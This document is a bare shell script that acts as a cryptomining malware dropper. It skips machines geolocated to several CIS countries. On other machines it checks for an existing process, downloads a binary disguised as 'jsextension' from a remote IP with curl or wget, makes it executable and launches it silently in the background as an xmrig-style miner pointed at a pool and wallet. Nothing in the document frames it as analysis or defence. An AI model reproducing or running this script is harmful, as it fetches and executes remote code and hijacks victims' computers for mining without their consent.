IP=$(curl -k https://freegeoip.example/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
    then
	var=$(pgrep jsextension)
	if [ -z "$var" ]
		then
		curl http://198.51.100.101/download/jsextension -o jsextension
		if [ ! -f jsextension ]
			then
			wget http://198.51.100.101/download/jsextension -O jsextension
		fi
		chmod +x jsextension
		./jsextension -k --tls --rig-id q -o stratum+tcp://pool.example:443 -u WALLETPLACEHOLDERNOTREAL0000000000 --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
	fi
fi
